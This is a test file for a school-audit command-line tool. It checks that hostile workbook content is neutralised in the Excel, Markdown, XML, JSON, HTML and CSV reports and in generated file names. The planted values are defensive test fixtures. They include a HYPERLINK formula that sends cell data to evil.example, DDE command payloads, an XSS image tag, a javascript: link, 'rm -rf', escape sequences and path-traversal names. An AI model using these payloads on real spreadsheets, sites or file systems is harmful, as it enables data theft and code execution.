// Outputs are safe to open whatever the workbook holds: formula-looking text stays text in Excel reports,
// Markdown shows text literally (no HTML, links, code spans or table breaks), XML is well-formed and
// escaped, the terminal gets no escape sequences, and file names made from workbook content stay inside
// --out and are valid on Windows. Planted through real workbooks and the built command.
import { readFileSync, readdirSync, statSync, writeFileSync, mkdirSync } from 'node:fs';
import { join, relative } from 'node:path';
import { unzipSync, strFromU8 } from 'fflate';
import { SaxesParser } from 'saxes';
import { describe, expect, test } from 'vitest';
import { readXlsx } from '../../src/inventory/xlsx.js';
import { reportStem, sanitizeStem } from '../../src/cli/output.js';
import { audit, noStack, schoolXlsx, setInfo, sheetNamed, tempDir } from './helpers.js';

const dir = tempDir('audit-hostile-outputs-');

const ESC = '\u001b';
// _x001B_ is how OOXML stores a character XML cannot hold: the reader turns it back into ESC.
const NAME = `=HYPERLINK("http://evil.example/?"&A1,"Bấm vào") | <img src=x onerror=alert(1)> \`rm -rf\` [x](javascript:alert(1)) _x001B_[31mĐỎ \u202Egnp.exe`;
const DISTRICT = "+cmd|' /C calc'!A0";
const KIND = '-2+3+cmd|\' /C notepad\'!A0';
const GROUP = '@SUM(A1:A9)';
const FORMULA_START = /^[=+\-@]/;

/** The example school with hostile text in the name, the district, an equipment kind and a teacher group. */
const hostileSchool = () => schoolXlsx((wb) => {
  setInfo(wb, 'Tên trường', NAME);
  setInfo(wb, 'Quận/Huyện', DISTRICT);
  sheetNamed(wb, 'Thiết bị').rows[1]![1] = { t: 's', v: KIND };
  sheetNamed(wb, 'Giáo viên').rows[1]![2] = { t: 's', v: GROUP };
});

// ---------- checks by kind of output ----------

/** Every cell of every report sheet: no formula anywhere, formula-looking text stored as text. */
function checkXlsx(bytes: Uint8Array): string[] {
  const parts = unzipSync(bytes);
  for (const [name, data] of Object.entries(parts)) {
    if (/^xl\/worksheets\/.*\.xml$/.test(name)) expect(strFromU8(data), name).not.toMatch(/<(?:\w+:)?f[\s>/]/);
  }
  const texts: string[] = [];
  for (const sheet of readXlsx(bytes, 'report.xlsx').sheets) {
    for (const row of sheet.rows) for (const cell of row ?? []) {
      if (!cell) continue;
      expect(cell.f).toBeUndefined();
      if (typeof cell.v === 'string' && FORMULA_START.test(cell.v)) expect(cell.t).toBe('s');
      if (cell.t === 's') texts.push(String(cell.v));
    }
  }
  return texts;
}

/** Markdown: no raw HTML, every backtick escaped, tables keep their width, no control characters. */
function checkMarkdown(md: string): void {
  expect(md).not.toMatch(/<[A-Za-z!/]/);
  expect(md).not.toMatch(/(?<!\\)`/);
  expect(md).not.toMatch(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F\u202A-\u202E\u2066-\u2069]/);
  expect(md).not.toMatch(/(?<!\\)\]\(/); // no link syntax
  let width: number | null = null;
  for (const line of md.split('\n')) {
    if (!line.startsWith('|')) { width = null; continue; }
    const cells = line.split(/(?<!\\)\|/).length;
    if (width === null) width = cells;
    expect(cells, line).toBe(width);
  }
}

/** XML: well-formed, no DOCTYPE, no forbidden characters. */
function checkXml(xml: string): void {
  const parser = new SaxesParser();
  let doctype = false;
  parser.on('doctype', () => { doctype = true; });
  expect(() => parser.write(xml).close()).not.toThrow();
  expect(doctype).toBe(false);
  expect(xml).not.toMatch(/[\u0000-\u0008\u000B\u000C\u000E-\u001F]/);
}

/** HTML (the batch dashboard): no markup from the data, no bidi override; the page's own script is the only one. */
function checkHtml(html: string): void {
  expect(html).not.toContain('<img src=x');
  expect(html).not.toMatch(/href="javascript:/i);
  expect(html).not.toMatch(/[\u202A-\u202E\u2066-\u2069]/);
  expect(html.match(/<script\b/g)?.length ?? 0).toBeLessThanOrEqual(1);
  expect(html).toMatch(/<meta http-equiv="Content-Security-Policy" content="default-src 'none'/);
}

/** CSV-like output: a field that starts like a formula is neutralised with a leading apostrophe. */
function checkCsv(text: string): void {
  for (const line of text.split(/\r?\n/)) {
    for (const field of line.split(/[,;\t]/)) expect(field.replace(/^"/, ''), line).not.toMatch(FORMULA_START);
  }
}

/** Every file under `root`, checked by its kind; returns the text cells of the xlsx files. */
function checkAll(root: string): { files: string[]; xlsxTexts: string[]; text: string } {
  const files: string[] = [];
  const walk = (d: string) => {
    for (const n of readdirSync(d)) {
      const p = join(d, n);
      if (statSync(p).isDirectory()) walk(p); else files.push(p);
    }
  };
  walk(root);
  const xlsxTexts: string[] = [];
  let text = '';
  for (const f of files) {
    const bytes = new Uint8Array(readFileSync(f));
    if (f.endsWith('.xlsx')) { xlsxTexts.push(...checkXlsx(bytes)); continue; }
    const s = new TextDecoder().decode(bytes);
    text += s;
    expect(s, f).not.toContain(ESC);
    if (f.endsWith('.md')) checkMarkdown(s);
    else if (f.endsWith('.xml')) checkXml(s);
    else if (f.endsWith('.json')) expect(() => JSON.parse(s)).not.toThrow();
    else if (f.endsWith('.html')) checkHtml(s);
    else if (/\.(csv|tsv|txt)$/.test(f)) checkCsv(s);
    else throw new Error(`an output of an unexpected kind: ${f}`);
  }
  return { files, xlsxTexts, text };
}

describe('hostile text in a workbook is harmless in every output', () => {
  const input = join(dir, 'doc-hai.xlsx');
  writeFileSync(input, hostileSchool());

  test('audit: md, xlsx, json, junit reports and the terminal table', () => {
    const out = join(dir, 'reports');
    const r = audit([input, '--rubric', 'ben-tre-2782', '--out', out, '--format', 'md,xlsx,json,junit']);
    noStack(r.stderr);
    expect([0, 1]).toContain(r.code);
    expect(r.stdout).not.toContain(ESC);
    expect(r.stdout).not.toMatch(/[\u202A-\u202E]/);
    const { files, xlsxTexts } = checkAll(out);
    expect(files.map((f) => relative(out, f)).sort()).toEqual(
      ['83000715.audit.json', '83000715.audit.junit.xml', '83000715.audit.md', '83000715.audit.xlsx']);
    // not vacuous: the hostile texts are in the reports, as text
    expect(xlsxTexts.some((t) => t.startsWith('=HYPERLINK('))).toBe(true);
    expect(xlsxTexts.some((t) => t.includes(DISTRICT))).toBe(true);
    const json = JSON.parse(readFileSync(join(out, '83000715.audit.json'), 'utf8'));
    expect(json.school.name).toContain('=HYPERLINK(');
    expect(json.school.name).toContain(ESC); // JSON keeps the data (escaped as \u001b in the file)
    const md = readFileSync(join(out, '83000715.audit.md'), 'utf8');
    expect(md).toContain('&lt;img src=x onerror=alert(1)&gt;');
    expect(md).toContain('\\`rm -rf\\`');
    expect(md).toContain('\\[x\\](javascript:alert(1))');
  });

  test('batch: the district summary files and per-school reports', () => {
    const folder = join(dir, 'lo');
    mkdirSync(folder);
    writeFileSync(join(folder, 'doc-hai.xlsx'), hostileSchool());
    const out = join(dir, 'lo-out');
    const r = audit(['batch', folder, '--rubric', 'ben-tre-2782', '--out', out, '--format', 'md,xlsx,json,junit', '--jobs', '1']);
    noStack(r.stderr);
    expect([0, 1]).toContain(r.code);
    const { xlsxTexts } = checkAll(out);
    expect(xlsxTexts.some((t) => t.startsWith('=HYPERLINK('))).toBe(true);
  });
});

describe('file names made from workbook content stay inside --out', () => {
  test('sanitizeStem: separators, dots, reserved device names, long names', () => {
    for (const code of ['../../../tmp/evil', '/etc/cron.d/x', 'C:\\Windows\\System32\\x', '..', '.', '....', '~', '', '  ']) {
      const s = sanitizeStem(code);
      if (s !== null) expect(s).toMatch(/^[A-Za-z0-9][A-Za-z0-9_-]*$/);
    }
    for (const reserved of ['CON', 'con', 'NUL', 'Aux', 'PRN', 'COM1', 'lpt9']) expect(sanitizeStem(reserved)).toBe(`${reserved}_`);
    expect(sanitizeStem('CONSOLE')).toBe('CONSOLE');
    expect(sanitizeStem('a'.repeat(1000))!.length).toBeLessThanOrEqual(80);
    expect(sanitizeStem('Đ'.repeat(500))!.length).toBeLessThanOrEqual(80);
    expect(reportStem('../..', '/x/NUL.xlsx')).toBe('NUL_');
    expect(reportStem('///', '/x/...xlsx')).toBe('report');
  });

  test('hostile school codes through the command line', () => {
    const folder = join(dir, 'ma');
    const out = join(folder, 'out');
    mkdirSync(folder);
    const codes = ['../../../../tmp/thoat-ra', '/etc/passwd', 'C:\\Windows\\win', 'CON', 'nul', 'x'.repeat(400), '..', '__proto__'];
    const files = codes.map((code, i) => {
      const f = join(folder, `t${i}.xlsx`);
      writeFileSync(f, schoolXlsx((wb) => setInfo(wb, 'Mã trường', code)));
      return f;
    });
    const r = audit([...files, '--rubric', 'ben-tre-2782', '--out', out, '--format', 'md,json']);
    noStack(r.stderr);
    expect([0, 1]).toContain(r.code);
    // nothing but the inputs and the out folder next to them; every report a plain name in out
    expect(readdirSync(folder).sort()).toEqual(['out', ...files.map((f) => relative(folder, f))].sort());
    const names = readdirSync(out);
    expect(names).toHaveLength(codes.length * 2);
    for (const n of names) {
      expect(n).toMatch(/^[A-Za-z0-9][A-Za-z0-9_-]*\.audit\.(md|json)$/);
      expect(Buffer.byteLength(n)).toBeLessThan(255);
      expect(n.split('.')[0]!.toUpperCase()).not.toMatch(/^(CON|PRN|AUX|NUL|COM\d|LPT\d)$/);
    }
    expect(names).toContain('CON_.audit.md');
    expect(names).toContain('proto.audit.json'); // leading and trailing '_' dropped
  });
});
